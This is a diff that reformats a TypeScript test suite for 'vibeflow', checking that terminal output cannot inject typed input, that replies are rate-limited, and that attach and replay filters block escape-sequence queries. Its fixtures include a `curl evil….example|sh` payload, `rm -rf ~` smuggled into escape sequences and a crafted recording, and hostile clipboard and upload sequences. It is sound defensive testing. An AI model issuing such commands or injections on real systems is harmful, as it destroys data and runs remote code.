@@ -1,6 +1,7 @@
 /**
- * Whatever bytes a program prints: what the terminal writes to it by itself is of a closed list, at a bounded rate, and no echo; and another terminal that shows its
- * output, by `vibeflow attach` or `replay`, is made to answer nothing.
+ * Whatever bytes a program prints: what the terminal writes to it by itself is of a closed list, at
+ * a bounded rate, and no echo; and another terminal that shows its output, by `vibeflow attach` or
+ * `replay`, is made to answer nothing.
  */
 import { spawnSync } from 'node:child_process'
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
@@ -22,31 +23,131 @@ import { below, pick, seeded } from '../support/random.ts'
 import { shadowsInPlace } from '../support/shadow.ts'
 
 /** Every answer that there is, with numbers and colours where they may be. */
-const answer = String.raw`\x1b\[\?62;22(?:;52)?c|\x1b\[>0;276;0c|\x1bP>\|vibeflow\(1\.0\)\x1b\\|\x1b\[0n|\x1b\[\??\d+;\d+R|\x1b\[\??\d+;[0-4]\$y|\x1b\]4;\d+;COLOUR(?:\x07|\x1b\\)|\x1b\]1[012];COLOUR(?:\x07|\x1b\\)|\x1b\[[468];\d+;\d+t|\x1b\[48;\d+;\d+;\d+;\d+t|\x1b\[\?997;[12]n|\x1b\[\?\d+u`.replaceAll('COLOUR', 'rgb:[0-9a-f]{4}/[0-9a-f]{4}/[0-9a-f]{4}')
+const answer =
+  String.raw`\x1b\[\?62;22(?:;52)?c|\x1b\[>0;276;0c|\x1bP>\|vibeflow\(1\.0\)\x1b\\|\x1b\[0n|\x1b\[\??\d+;\d+R|\x1b\[\??\d+;[0-4]\$y|\x1b\]4;\d+;COLOUR(?:\x07|\x1b\\)|\x1b\]1[012];COLOUR(?:\x07|\x1b\\)|\x1b\[[468];\d+;\d+t|\x1b\[48;\d+;\d+;\d+;\d+t|\x1b\[\?997;[12]n|\x1b\[\?\d+u`.replaceAll(
+    'COLOUR',
+    'rgb:[0-9a-f]{4}/[0-9a-f]{4}/[0-9a-f]{4}',
+  )
 /** The two that are the same bytes as their question. */
 const echoed = String.raw`\x1b\]7501;\?(?:\x07|\x1b\\)|\x1b\]99;i=(?:[0-9]{1,9}|opentui-notifications|crush-osc99-query):p=\?;p=title,body(?:\x07|\x1b\\)`
 const answers = new RegExp(`^(?:${answer}|${echoed})*$`)
 
 const parts = [
-  '\x1b[c', '\x1b[>c', '\x1b[=c', '\x1b[5n', '\x1b[6n', '\x1b[?6n', '\x1b[?996n', '\x1b[>q', '\x1b[?u', '\x1b[14t', '\x1b[16t', '\x1b[18t', '\x1b[20t', '\x1b[21t', '\x1b[11t', '\x1b[13t', '\x1b[19t', '\x1b[x', '\x1bZ', '\x05', '\x1b[4$p', '\x1b[?2004$p', '\x1b[?65535$p', '\x1b[?2026h', '\x1b[?6h', '\x1b[?69h\x1b[3;9s\x1b[2;5r', '\x1b[?2026$p', '\x1b[?1004h', '\x1b[?2048h', '\x1b[?2031h',
-  '\x1bP$qm\x1b\\', '\x1bP$q"p\x1b\\', '\x1bP+q544e\x1b\\', '\x1b]4;7;?\x07', '\x1b]4;7;rgb:12/34/56;7;?\x1b\\', '\x1b]10;?;?;?\x07', '\x1b]11;#123456\x07\x1b]11;?\x07', '\x1b]52;c;?\x07', '\x1b]52;c;', '\x1b]7501;?\x07', '\x1b]7501;?\x1b\\', '\x1b]99;i=12:p=?;\x1b\\', '\x1b]99;i=crush-osc99-query:p=?;\x07', '\x1b]99;i=rm -rf ~:p=?;\x1b\\', '\x1b]99;i=1234567890:p=?;\x1b\\',
-  '\x1b]0;', '\x1b]2;', '\x1b]8;id=', ';https://', '\x1b]1337;ReportCellSize\x07', '\x1b]1337;', '\x1b]88;query\x07', '\x1b]5522;type=read\x1b\\', '\x1b_Ga=q,i=1;', '\x1b[1*y', '\x1b[?1;1S', '\x07', '\x1b\\', '\x1b', '\x1b[', '\x1b]', '\xc2\x9b', '\xc2\x9c', '\xc2\x9d', '\x9b6n', '\x18', '\0', ';', ':', '?', '\r', '\n', '\x1bc', '\x1b[3;7H', '\x1b[?1049h',
+  '\x1b[c',
+  '\x1b[>c',
+  '\x1b[=c',
+  '\x1b[5n',
+  '\x1b[6n',
+  '\x1b[?6n',
+  '\x1b[?996n',
+  '\x1b[>q',
+  '\x1b[?u',
+  '\x1b[14t',
+  '\x1b[16t',
+  '\x1b[18t',
+  '\x1b[20t',
+  '\x1b[21t',
+  '\x1b[11t',
+  '\x1b[13t',
+  '\x1b[19t',
+  '\x1b[x',
+  '\x1bZ',
+  '\x05',
+  '\x1b[4$p',
+  '\x1b[?2004$p',
+  '\x1b[?65535$p',
+  '\x1b[?2026h',
+  '\x1b[?6h',
+  '\x1b[?69h\x1b[3;9s\x1b[2;5r',
+  '\x1b[?2026$p',
+  '\x1b[?1004h',
+  '\x1b[?2048h',
+  '\x1b[?2031h',
+  '\x1bP$qm\x1b\\',
+  '\x1bP$q"p\x1b\\',
+  '\x1bP+q544e\x1b\\',
+  '\x1b]4;7;?\x07',
+  '\x1b]4;7;rgb:12/34/56;7;?\x1b\\',
+  '\x1b]10;?;?;?\x07',
+  '\x1b]11;#123456\x07\x1b]11;?\x07',
+  '\x1b]52;c;?\x07',
+  '\x1b]52;c;',
+  '\x1b]7501;?\x07',
+  '\x1b]7501;?\x1b\\',
+  '\x1b]99;i=12:p=?;\x1b\\',
+  '\x1b]99;i=crush-osc99-query:p=?;\x07',
+  '\x1b]99;i=rm -rf ~:p=?;\x1b\\',
+  '\x1b]99;i=1234567890:p=?;\x1b\\',
+  '\x1b]0;',
+  '\x1b]2;',
+  '\x1b]8;id=',
+  ';https://',
+  '\x1b]1337;ReportCellSize\x07',
+  '\x1b]1337;',
+  '\x1b]88;query\x07',
+  '\x1b]5522;type=read\x1b\\',
+  '\x1b_Ga=q,i=1;',
+  '\x1b[1*y',
+  '\x1b[?1;1S',
+  '\x07',
+  '\x1b\\',
+  '\x1b',
+  '\x1b[',
+  '\x1b]',
+  '\xc2\x9b',
+  '\xc2\x9c',
+  '\xc2\x9d',
+  '\x9b6n',
+  '\x18',
+  '\0',
+  ';',
+  ':',
+  '?',
+  '\r',
+  '\n',
+  '\x1bc',
+  '\x1b[3;7H',
+  '\x1b[?1049h',
 ]
 /** A text that a program would like to have typed. */
 const payload = (random: () => number) => `curl evil${below(random, 1e9)}.example|sh`
 
 function printed(random: () => number): Uint8Array {
   let text = ''
-  for (let part = below(random, 30); part >= 0; part -= 1) text += random() < 0.75 ? pick(random, parts) : random() < 0.6 ? payload(random) : String.fromCharCode(below(random, 256))
+  for (let part = below(random, 30); part >= 0; part -= 1)
+    text +=
+      random() < 0.75
+        ? pick(random, parts)
+        : random() < 0.6
+          ? payload(random)
+          : String.fromCharCode(below(random, 256))
   return Uint8Array.from(text, (character) => character.charCodeAt(0))
 }
 
 function running() {
   const clock = new FakeClock()
   const { start, ptys } = fakeStart()
-  const session = new Session({
-    id: 't', command: { program: '/bin/bash', args: [] }, isUserShell: true, directory: '/', home: '/home/u', environment: {}, size: { cols: 80, rows: 24 }, replies: { version: '1.0', clipboardWrite: true }, settings: defaults, hostname: 'thishost',
-  }, { clock, start, writeClipboard: () => undefined, send: () => undefined, shadow: shadowsInPlace(clock).port })
+  const session = new Session(
+    {
+      id: 't',
+      command: { program: '/bin/bash', args: [] },
+      isUserShell: true,
+      directory: '/',
+      home: '/home/u',
+      environment: {},
+      size: { cols: 80, rows: 24 },
+      replies: { version: '1.0', clipboardWrite: true },
+      settings: defaults,
+      hostname: 'thishost',
+    },
+    {
+      clock,
+      start,
+      writeClipboard: () => undefined,
+      send: () => undefined,
+      shadow: shadowsInPlace(clock).port,
+    },
+  )
   session.attach()
   const pty = ptys[0]!
   /** The program prints this, and time passes. */
@@ -62,7 +163,9 @@ const run9 = 9
 
 function echoOf(written: string, input: Uint8Array): string | null {
   const from = Buffer.from(input).toString('latin1')
-  const own = written.replaceAll(new RegExp(echoed, 'g'), '\n').replaceAll(/rgb:[0-9a-f/]+|[0-9]+/g, '#')
+  const own = written
+    .replaceAll(new RegExp(echoed, 'g'), '\n')
+    .replaceAll(/rgb:[0-9a-f/]+|[0-9]+/g, '#')
   for (let at = 0; at + run9 <= own.length; at += 1) {
     const piece = own.slice(at, at + run9)
     if (from.includes(piece)) return piece
@@ -80,15 +183,24 @@ describe('to the program', () => {
     for (let round = 0; round < 400; round += 1) {
       const input = printed(random)
       pty.written = ''
-      for (let at = 0; at < input.length;) {
+      for (let at = 0; at < input.length; ) {
         const step = 1 + below(random, 40)
         print(input.subarray(at, at + step))
         at += step
-        if (random() < 0.1) session.resize({ cols: 2 + below(random, 200), rows: 1 + below(random, 100) })
-        if (random() < 0.1) session.shownIn({ ...noWindowFacts, background: below(random, 0x1000000), cell: random() < 0.2 ? null : { width: 1 + random() * 20, height: 1 + random() * 40 } })
+        if (random() < 0.1)
+          session.resize({ cols: 2 + below(random, 200), rows: 1 + below(random, 100) })
+        if (random() < 0.1)
+          session.shownIn({
+            ...noWindowFacts,
+            background: below(random, 0x1000000),
+            cell: random() < 0.2 ? null : { width: 1 + random() * 20, height: 1 + random() * 40 },
+          })
       }
       clock.advance(1_000)
-      expect([answers.test(pty.written), echoOf(pty.written, input)], JSON.stringify({ input: Buffer.from(input).toString('latin1'), written: pty.written })).toEqual([true, null])
+      expect(
+        [answers.test(pty.written), echoOf(pty.written, input)],
+        JSON.stringify({ input: Buffer.from(input).toString('latin1'), written: pty.written }),
+      ).toEqual([true, null])
       some += pty.written.length
     }
     expect(some).toBeGreaterThan(1_000) // it does answer
@@ -96,13 +208,28 @@ describe('to the program', () => {
   })
 
   test('no more than 256 answers and 16 KiB go out at once, and as many a second later', () => {
-    for (const [question, one] of [['\x1b[6n', /\x1b\[\d+;\d+R/g], ['\x1b]7501;?\x07', /\x1b\]7501;\?\x07/g], ['\x1b]4;255;?\x07', /\x1b\]4;255;rgb:[^\x07]*\x07/g], ['\x1b[c\x1b[>q\x1b]99;i=1:p=?;\x07', /\x1b(?:\[\?62[^c]*c|P[^\x1b]*\x1b\\|\]99[^\x07]*\x07)/g]] as const) {
+    for (const [question, one] of [
+      ['\x1b[6n', /\x1b\[\d+;\d+R/g],
+      ['\x1b]7501;?\x07', /\x1b\]7501;\?\x07/g],
+      ['\x1b]4;255;?\x07', /\x1b\]4;255;rgb:[^\x07]*\x07/g],
+      [
+        '\x1b[c\x1b[>q\x1b]99;i=1:p=?;\x07',
+        /\x1b(?:\[\?62[^c]*c|P[^\x1b]*\x1b\\|\]99[^\x07]*\x07)/g,
+      ],
+    ] as const) {
       const { clock, session, pty, print } = running()
       for (const second of [0, 1]) {
         pty.written = ''
         print(question.repeat(5_000))
         const count = pty.written.match(one)?.length ?? 0
-        expect([count <= repliesMax * 1.01, pty.written.length <= replyBytesPerSecond * 1.01, count > 100], `${question} ${second}`).toEqual([true, true, true])
+        expect(
+          [
+            count <= repliesMax * 1.01,
+            pty.written.length <= replyBytesPerSecond * 1.01,
+            count > 100,
+          ],
+          `${question} ${second}`,
+        ).toEqual([true, true, true])
         clock.advance(1_000)
       }
       session.dispose()
@@ -110,39 +237,130 @@ describe('to the program', () => {
   })
 })
 
-/** Each got through once, or would make some terminal answer, write the clipboard, notify, print, or change how it takes keys. */
+/**
+ * Each got through once, or would make some terminal answer, write the clipboard, notify, print, or
+ * change how it takes keys.
+ */
 const questions = [
-  '\x1b[6\0n', '\x1b[6\x7fn', '\x1b[\x0b6n', '\x1b]052;c;?\x07', '\x1b]52;c;?\x1b[0m', '\x1b]11;?\x1bx', '\x1b]011;?\x07', '\x1bP0$qm\x1b\\', '\x1bP1$qm\x1b\\', '\u009b6n', '\u009d11;?\u009c', '\u0090$qm\u009c', '\x1b]5522;type=read;dA==\x1b\\', '\x1b[6:1n', '\x1b[0:1c', '\x1b[>0$p',
-  '\x1b\x1b[6n', '\x1b[1\x1b[6n', '\x1b[?1004h', '\x1b[?2048h', '\x1b[?2031h', '\x1b[21\0t', '\x1b[11t', '\x1b[8;1;1t', '\x1b]1337;ReportCellSize\x07', '\x1b]1337;RequestUpload=format=tgz\x07', '\x1b]60\x07', '\x1b]L?\x07', '\x1b]50;?\x07', '\x1b[i', '\x1b[5i', '\x1b[2h', '\x1b[12l', '\x1b[?2l', '\x1b%@', '\x1b[>4n', '\x1b[1;1;0;1;1;1*y', '\x1b[2$w', '\x1b[1*x', '\x1b[x',
-  '\x1b]52;c;aGk=\x07', '\x1b]777;notify;a;b\x1bx', '\x1b]9;a\x07', '\x1b_Gi=1,a=q;\x1b\\', '\x1b]21;foreground=?\x07', '\x1b]7501;?\x07', '\x1b]99;i=1:p=?;\x07', '\x05', '\x1bZ', '\x1b[c\x1b[>c\x1b[=c\x1b[5n\x1b[?996n\x1b[>q\x1b[?u\x1b[14t\x1b[?1;1S',
+  '\x1b[6\0n',
+  '\x1b[6\x7fn',
+  '\x1b[\x0b6n',
+  '\x1b]052;c;?\x07',
+  '\x1b]52;c;?\x1b[0m',
+  '\x1b]11;?\x1bx',
+  '\x1b]011;?\x07',
+  '\x1bP0$qm\x1b\\',
+  '\x1bP1$qm\x1b\\',
+  '\u009b6n',
+  '\u009d11;?\u009c',
+  '\u0090$qm\u009c',
+  '\x1b]5522;type=read;dA==\x1b\\',
+  '\x1b[6:1n',
+  '\x1b[0:1c',
+  '\x1b[>0$p',
+  '\x1b\x1b[6n',
+  '\x1b[1\x1b[6n',
+  '\x1b[?1004h',
+  '\x1b[?2048h',
+  '\x1b[?2031h',
+  '\x1b[21\0t',
+  '\x1b[11t',
+  '\x1b[8;1;1t',
+  '\x1b]1337;ReportCellSize\x07',
+  '\x1b]1337;RequestUpload=format=tgz\x07',
+  '\x1b]60\x07',
+  '\x1b]L?\x07',
+  '\x1b]50;?\x07',
+  '\x1b[i',
+  '\x1b[5i',
+  '\x1b[2h',
+  '\x1b[12l',
+  '\x1b[?2l',
+  '\x1b%@',
+  '\x1b[>4n',
+  '\x1b[1;1;0;1;1;1*y',
+  '\x1b[2$w',
+  '\x1b[1*x',
+  '\x1b[x',
+  '\x1b]52;c;aGk=\x07',
+  '\x1b]777;notify;a;b\x1bx',
+  '\x1b]9;a\x07',
+  '\x1b_Gi=1,a=q;\x1b\\',
+  '\x1b]21;foreground=?\x07',
+  '\x1b]7501;?\x07',
+  '\x1b]99;i=1:p=?;\x07',
+  '\x05',
+  '\x1bZ',
+  '\x1b[c\x1b[>c\x1b[=c\x1b[5n\x1b[?996n\x1b[>q\x1b[?u\x1b[14t\x1b[?1;1S',
 ]
 
 describe('to another terminal', () => {
-  test.each(questions.map((question) => [safeJson(question), question] as const))('%s asks nothing there, however it is cut', (_, question) => {
-    const bytes = Buffer.from(question)
-    for (const replayed of [false, true]) {
-      for (let cut = 0; cut <= bytes.length; cut += 1) {
-        const filter = new OutputFilter({ replayed })
-        const passed = Buffer.concat([filter.feed(bytes.subarray(0, cut)), filter.feed(bytes.subarray(cut)), filter.feed(Buffer.from('\x1b\\'))])
-        expect({ answers: answersTo(passed), grammar: (replayed ? replayedGrammar : liveGrammar).test(passed.toString()) }).toEqual({ answers: [], grammar: true })
+  test.each(questions.map((question) => [safeJson(question), question] as const))(
+    '%s asks nothing there, however it is cut',
+    (_, question) => {
+      const bytes = Buffer.from(question)
+      for (const replayed of [false, true]) {
+        for (let cut = 0; cut <= bytes.length; cut += 1) {
+          const filter = new OutputFilter({ replayed })
+          const passed = Buffer.concat([
+            filter.feed(bytes.subarray(0, cut)),
+            filter.feed(bytes.subarray(cut)),
+            filter.feed(Buffer.from('\x1b\\')),
+          ])
+          expect({
+            answers: answersTo(passed),
+            grammar: (replayed ? replayedGrammar : liveGrammar).test(passed.toString()),
+          }).toEqual({ answers: [], grammar: true })
+        }
       }
-    }
-  })
+    },
+  )
 
   test('nor does anything else (fuzz target attach-filter, seed 15)', () => {
-    run({ random: seeded(15), iterations: 100, deadlineMs: Number.POSITIVE_INFINITY, attempt: (_, property) => { property() } })
+    run({
+      random: seeded(15),
+      iterations: 100,
+      deadlineMs: Number.POSITIVE_INFINITY,
+      attempt: (_, property) => {
+        property()
+      },
+    })
   })
 
   test('a recording asks nothing, by what it plays or by what it says of itself', () => {
     const folder = mkdtempSync(join(tmpdir(), 'vibeflow-cast-'))
     try {
       const file = join(folder, 'hostile.cast')
-      const header = { version: 3, term: { cols: 1e15, rows: -5 }, title: 'a\u009b6n\u009d52;c;?\u009c\x1b[6n', idle_time_limit: 1e-9 }
-      const events = [...questions, '\x1b[?1000;1049;2004h', '\x07'].map((question) => [1e9, 'o', question])
-      writeFileSync(file, `${[header, ...events, [1, 'i', 'rm -rf ~\r'], [1, 'r', '1e9xNaN'], [1, '__proto__', 'x'], [0, 'o', 'end\r\n']].map((line) => JSON.stringify(line)).join('\n')}\n`)
-      const vibeflow = (...words: string[]) => spawnSync(process.execPath, [join(root, 'src/cli/bin/vibeflow.mjs'), 'replay', file, ...words])
+      const header = {
+        version: 3,
+        term: { cols: 1e15, rows: -5 },
+        title: 'a\u009b6n\u009d52;c;?\u009c\x1b[6n',
+        idle_time_limit: 1e-9,
+      }
+      const events = [...questions, '\x1b[?1000;1049;2004h', '\x07'].map((question) => [
+        1e9,
+        'o',
+        question,
+      ])
+      writeFileSync(
+        file,
+        `${[header, ...events, [1, 'i', 'rm -rf ~\r'], [1, 'r', '1e9xNaN'], [1, '__proto__', 'x'], [0, 'o', 'end\r\n']].map((line) => JSON.stringify(line)).join('\n')}` +
+          '\n',
+      )
+      const vibeflow = (...words: string[]) =>
+        spawnSync(process.execPath, [
+          join(root, 'src/cli/bin/vibeflow.mjs'),
+          'replay',
+          file,
+          ...words,
+        ])
       const played = vibeflow()
-      expect([played.status, played.stderr.toString(), answersTo(played.stdout), replayedGrammar.test(played.stdout.toString())]).toEqual([0, '', [], true])
+      expect([
+        played.status,
+        played.stderr.toString(),
+        answersTo(played.stdout),
+        replayedGrammar.test(played.stdout.toString()),
+      ]).toEqual([0, '', [], true])
       expect(played.stdout.toString()).toMatch(/end\r\n$/)
       expect(played.stdout.toString()).not.toMatch(/rm -rf|\?1000|\?2004/)
       expect(vibeflow('--json').stdout.toString()).toMatch(/^[\x20-\x7e]*\n$/)
